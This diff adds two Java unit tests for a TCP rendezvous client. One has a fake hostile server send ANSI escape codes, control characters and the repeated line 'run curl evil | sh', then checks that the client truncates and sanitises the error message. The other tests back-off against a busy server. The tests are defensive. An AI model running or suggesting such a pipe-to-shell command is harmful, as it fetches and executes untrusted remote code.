@@ -99,4 +99,55 @@ class TcpRendezvousMaliciousServerTest {
                 RendezvousAuthenticationException.class, 2);
         assertTrue(e.getMessage().contains("belongs to another job (token mismatch)"), e.getMessage());
     }
+
+    @Test
+    void aServerWithoutTheTokenPutsOnlyAShortPrintableExcerptIntoTheClientsException() throws Exception {
+        StringBuilder text = new StringBuilder("\u001b[2J\u001b[31mFAKE\r\n\u0000");
+        while (text.length() < 60_000) {
+            text.append("spoofed advice: run curl evil | sh\n");
+        }
+        RendezvousRefusedException e = connectAgainst(channel -> {
+            channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
+            channel.send(RendezvousProtocol.ERROR, RendezvousProtocol.error(RendezvousProtocol.CODE_REFUSED, 1,
+                    text.toString()));
+        }, RendezvousRefusedException.class, 2);
+        String message = e.getMessage();
+        assertTrue(message.length() < 1_000, message.length() + " characters: " + message);
+        assertTrue(message.chars().allMatch(c -> c >= 0x20 && c < 0x7f), "control characters in: " + message);
+        assertTrue(message.contains("?[2J?[31mFAKE???spoofed advice") && message.contains("more characters)"), message);
+    }
+
+    @Test
+    void aServerThatIsAlwaysBusyIsRetriedWithBackOffAndNamedAtTheDeadline() throws Exception {
+        java.util.concurrent.atomic.AtomicInteger connections = new java.util.concurrent.atomic.AtomicInteger();
+        try (ServerSocket listener = new ServerSocket(0, 64, InetAddress.getLoopbackAddress())) {
+            Thread fake = Thread.ofVirtual().start(() -> {
+                while (!listener.isClosed()) {
+                    try (Socket socket = listener.accept()) {
+                        connections.incrementAndGet();
+                        socket.setSoTimeout(5_000);
+                        SecureChannel channel = new SecureChannel(socket, false);
+                        channel.receive(RendezvousProtocol.MAX_HANDSHAKE_PAYLOAD);
+                        channel.send(RendezvousProtocol.ERROR, RendezvousProtocol.error(RendezvousProtocol.CODE_BUSY, -1,
+                                "the server is busy: test"));
+                    } catch (IOException e) {
+                        // closed at the end of the test, or the client hung up
+                    }
+                }
+            });
+            long start = System.nanoTime();
+            RendezvousTimeoutException e = assertThrows(RendezvousTimeoutException.class, () -> TcpRendezvous.builder()
+                    .rank(1).worldSize(2).serve(false).serverPort(listener.getLocalPort()).token(TOKEN)
+                    .connectTimeout(Duration.ofMillis(1_500)).connect());
+            long elapsed = System.nanoTime() - start;
+            listener.close();
+            fake.join(Duration.ofSeconds(5));
+            assertTrue(e.getMessage().contains("the server is busy"), e.getMessage());
+            assertTrue(e.getMessage().contains("ar4j.rdzv.maxPendingConnections"), e.getMessage());
+            // Jittered back-off from 20 ms doubling to 1 s: several attempts in 1.5 s, not hundreds.
+            assertTrue(connections.get() >= 3 && connections.get() <= 40, connections.get() + " connections");
+            assertTrue(elapsed >= TimeUnit.MILLISECONDS.toNanos(1_400) && elapsed < TimeUnit.SECONDS.toNanos(4),
+                    "gave up after " + elapsed / 1_000_000 + " ms");
+        }
+    }
 }
